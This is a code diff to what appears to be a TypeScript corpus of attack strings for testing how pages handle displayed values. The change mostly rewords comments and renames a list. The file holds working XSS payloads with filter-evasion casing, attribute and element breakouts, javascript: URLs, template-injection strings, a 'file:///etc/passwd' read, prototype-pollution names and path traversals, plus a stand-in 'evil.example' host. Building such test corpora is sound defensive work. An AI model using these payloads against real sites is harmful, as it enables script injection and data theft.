@@ -1,10 +1,10 @@
-// Texts that an attacker would put into whatever a page shows. Each that works calls `hit()` in the page, or asks the host
-// `evil.example` for something. They are made by kinds: what is written is what differs.
+// Attack strings for any value that a page shows. A successful attack calls `hit()` in the page, or sends a request to the host
+// `evil.example`.
 
 const call = "hit()";
 const evil = "https://evil.example";
 
-/** Ways to write script so that some filter misses it. */
+/** Scripts in forms that some filters miss. */
 const scripts = [
   `<script>${call}</script>`,
   `<SCRIPT>${call}</SCRIPT>`,
@@ -42,7 +42,7 @@ const scripts = [
   `<isindex action=javascript:${call} type=submit>`,
 ];
 
-/** Endings of whatever text, attribute, comment or element the payload may stand in. */
+/** Texts that end the attribute, comment or element around a payload. */
 const breakouts = [
   "",
   '"',
@@ -68,13 +68,14 @@ const breakouts = [
   "\0",
 ];
 
+/** Attacks after the end of an attribute, comment or element. */
 const broken = breakouts.flatMap((end) => [
   `${end}<img src=x onerror=${call}>`,
   `${end} onmouseover=${call} autofocus onfocus=${call} x=`,
   `${end}<svg onload=${call}>`,
 ]);
 
-/** Elements that run something by themselves. */
+/** Elements whose event handlers run without interaction. */
 const handlers = [
   ["img src=x", "onerror"],
   ["img src=x:x", "onerror"],
@@ -108,8 +109,8 @@ const handlers = [
   `"><${element} ${(handler ?? "").toUpperCase()} = '${call}'>`,
 ]);
 
-/** Addresses that are script or data. */
-const addresses = [
+/** URLs that are script or data. */
+const urls = [
   `javascript:${call}`,
   `JaVaScRiPt:${call}`,
   ` javascript:${call}`,
@@ -133,7 +134,7 @@ const addresses = [
   "file:///etc/passwd",
 ];
 
-/** What template languages and Markdown would take for theirs. */
+/** Syntax of template languages, Markdown and LaTeX. */
 const syntax = [
   "{{ 7 * 7 }}",
   "{{ constructor.constructor('hit()')() }}",
@@ -160,7 +161,7 @@ const syntax = [
   "<%= process.exit(1) %>",
 ];
 
-/** Text that breaks what reads it. */
+/** Malformed text, which may break parsers. */
 const malformed = [
   "\ud800",
   "\udfff x",
@@ -187,7 +188,7 @@ const malformed = [
   "x ".repeat(2000),
 ];
 
-/** Names that mean something to JavaScript. */
+/** Names with a meaning in JavaScript. */
 const names = [
   "__proto__",
   "constructor",
@@ -216,16 +217,7 @@ export const traversals = [
   "a\0.jpg",
 ];
 
-/** Everything of the corpus. */
+/** All payloads. */
 export const payloads: readonly string[] = [
-  ...new Set([
-    ...scripts,
-    ...broken,
-    ...handlers,
-    ...addresses,
-    ...syntax,
-    ...malformed,
-    ...names,
-    ...traversals,
-  ]),
+  ...new Set([...scripts, ...broken, ...handlers, ...urls, ...syntax, ...malformed, ...names, ...traversals]),
 ];
